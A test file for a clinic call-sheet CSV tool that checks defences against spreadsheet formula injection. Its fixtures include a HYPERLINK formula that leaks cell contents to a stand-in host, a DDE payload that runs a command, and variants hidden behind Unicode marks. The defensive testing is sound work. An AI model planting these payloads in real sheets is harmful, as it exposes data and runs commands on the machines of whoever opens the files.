// @vitest-environment node
/**
 * Sheets no spreadsheet executes, end to end on a copy of the data file:
 * clinic facts that look like formulas are written into the call sheet with
 * a leading apostrophe and read back exactly (the fingerprint, which covers
 * them, still matches); a formula typed into a sheet by hand is refused with
 * its row and column, and nothing is written.
 */
import {
  cpSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { runApply, runQueue, type Io } from '../../../ops/lib/cli/cli'
import {
  formulaStart,
  csvObjects,
  parseCsv,
  stringifyCsv,
} from '../../../ops/lib/core/csv'
import { SHEET_COLUMNS } from '../../../ops/lib/sheets-out/queue'

const ROOT = path.resolve(__dirname, '../../..')
const NOW = new Date('2026-11-26T16:00:00.000Z')
const HOSTILE = {
  name: '=HYPERLINK("http://evil.test/?leak="&A1,"Call")',
  address: "+cmd|' /C calc'!A0",
  hours_monday: '=1+1',
  hours_tuesday: '@SUM(1+1)',
  hours_wednesday: '-2+3',
  hours_thursday: '\uFF1D1',
  // The first visible character a formula's, behind direction marks and a
  // no-break space (the import trims leading whitespace alone).
  hours_friday: '\u200E\u00A0=1+1',
  hours_saturday: '\u200F@SUM(1+1)',
}
let dir = ''
let data = ''
let fileArgs: string[] = []

function io() {
  const out: string[] = []
  const err: string[] = []
  const value: Io = {
    out: (l) => out.push(l),
    err: (l) => err.push(l),
    env: {},
    now: () => NOW,
  }
  return { io: value, out, err }
}
const outputs = () =>
  [
    data,
    path.join(dir, 'seed.sql'),
    path.join(dir, 'generated/data.ts'),
    path.join(dir, 'verification-events.jsonl'),
  ].map((f) => {
    try {
      return readFileSync(f, 'utf8')
    } catch {
      return ''
    }
  })

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'ops-formulas-'))
  cpSync(path.join(ROOT, 'supabase/data'), dir, { recursive: true })
  data = path.join(dir, 'western-ky-clinics.json')
  const json = JSON.parse(readFileSync(data, 'utf8')) as {
    clinics: Record<string, unknown>[]
  }
  const target = json.clinics.find((c) => c.phone)!
  Object.assign(target, HOSTILE)
  writeFileSync(data, JSON.stringify(json, null, 2) + '\n')
  fileArgs = [
    '--to',
    'file',
    '--data',
    data,
    '--emergency-data',
    path.join(dir, 'western-ky-emergency-departments.json'),
    '--generated-dir',
    path.join(dir, 'generated'),
    '--seed',
    path.join(dir, 'seed.sql'),
  ]
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

let sheetFile = ''
let row: Record<string, string> = {}

test('queue: every cell that would start a formula is written with a leading apostrophe, and reads back exactly', async () => {
  const out = path.join(dir, 'sheets')
  expect(
    await runQueue(['--data', data, '--out', out, '--limit', '100'], io().io),
  ).toBe(0)
  sheetFile = path.join(
    out,
    readdirSync(out).find(
      (f) => f.startsWith('call-sheet') && f.endsWith('.csv'),
    )!,
  )
  const text = readFileSync(sheetFile, 'utf8')
  // As a spreadsheet sees the cells: none starts a formula.
  const raw = parse(text.slice(1), { relax_column_count: true }) as string[][]
  const cells = raw.flat()
  expect(cells.filter((c) => formulaStart(c) !== null)).toEqual([])
  for (const v of Object.values(HOSTILE)) expect(cells).toContain(`'${v}`)
  // As the tools read them: exactly the stored values.
  row = csvObjects(parseCsv(text)).rows.find(
    (r) => r.cells.name === HOSTILE.name,
  )!.cells
  expect(row).toMatchObject({
    name: HOSTILE.name,
    address: HOSTILE.address,
    hours_monday: HOSTILE.hours_monday,
    hours_tuesday: HOSTILE.hours_tuesday,
    hours_wednesday: HOSTILE.hours_wednesday,
    hours_thursday: HOSTILE.hours_thursday,
    hours_friday: HOSTILE.hours_friday,
    hours_saturday: HOSTILE.hours_saturday,
  })
})

function writeSheet(file: string, rows: Record<string, string>[]) {
  writeFileSync(
    file,
    stringifyCsv([
      [...SHEET_COLUMNS],
      ...rows.map((r) => SHEET_COLUMNS.map((k) => r[k] ?? '')),
    ]),
  )
}

test.each([
  ['new_address', '=HYPERLINK("http://evil.test","x")'],
  ['new_phone', '+1 270 555 0100'],
  ['note', '@SUM(1+1)'],
  ['new_website', '-1+1'],
  ['new_address', ' =HYPERLINK("http://evil.test","x")'],
  ['note', '\u202E@SUM(1+1)'],
])(
  'a formula typed by hand into %s is refused with its row and column; nothing is written',
  async (column, typed) => {
    const file = path.join(dir, `typed-${column}.csv`)
    writeSheet(file, [
      {
        ...row,
        outcome: 'changed',
        method: 'call',
        initials: 'AB',
        [column]: 'TYPED',
      },
    ])
    // As a spreadsheet saves a typed cell: without the apostrophe.
    const text = readFileSync(file, 'utf8')
    writeFileSync(
      file,
      text.replace(
        'TYPED',
        /[",]/.test(typed) ? `"${typed.replaceAll('"', '""')}"` : typed,
      ),
    )
    const before = outputs()
    const r = io()
    expect(await runApply([file, '--yes', ...fileArgs], r.io)).toBe(1)
    const col = SHEET_COLUMNS.indexOf(column as (typeof SHEET_COLUMNS)[number])
    const letter =
      (col >= 26 ? String.fromCharCode(64 + Math.floor(col / 26)) : '') +
      String.fromCharCode(65 + (col % 26))
    expect(r.err.join('\n')).toContain(
      `Refused: typed-${column}.csv is not a readable CSV sheet: row 2, column ${letter} (${column}): ${JSON.stringify(typed)} starts with`,
    )
    expect(outputs()).toEqual(before)
  },
)

test("a sheet saved as Windows-1252 (Excel's plain CSV) is refused, saying how to save it as UTF-8; nothing is written; the same sheet in UTF-8 (with Excel's BOM) is read", async () => {
  const file = path.join(dir, 'windows-1252.csv')
  writeSheet(file, [
    {
      ...row,
      outcome: 'changed',
      new_phone: '270 555 0111',
      method: 'call',
      note: 'José at the desk',
      initials: 'AB',
    },
  ])
  const utf8 = readFileSync(file, 'utf8')
  // Saved by a spreadsheet's plain CSV: Windows-1252 bytes, no BOM.
  writeFileSync(file, Buffer.from(utf8.replace(/^\uFEFF/, ''), 'latin1'))
  const before = outputs()
  const r = io()
  expect(await runApply([file, '--yes', ...fileArgs], r.io)).toBe(1)
  expect(r.err.join('\n')).toMatch(
    /^Refused: windows-1252\.csv is not a readable CSV sheet: it is not UTF-8 text \(byte 0x[0-9A-F]{2} on line 2;.*save it as CSV UTF-8/,
  )
  expect(outputs()).toEqual(before)
})

test('the written sheet applies: its formula-like facts came back exactly (same fingerprint), and stay as they were', async () => {
  const file = path.join(dir, 'filled.csv')
  writeSheet(file, [
    {
      ...row,
      outcome: 'confirmed',
      confirm: 'phone',
      method: 'call',
      initials: 'AB',
    },
  ])
  const r = io()
  const code = await runApply([file, '--yes', ...fileArgs], r.io)
  expect(r.err).toEqual([])
  expect(code).toBe(0)
  const stored = (
    JSON.parse(readFileSync(data, 'utf8')) as {
      clinics: Record<string, unknown>[]
    }
  ).clinics.find((c) => c.name === HOSTILE.name)
  expect(stored).toMatchObject({
    ...HOSTILE,
    phone_verified_at: NOW.toISOString(),
  })
})
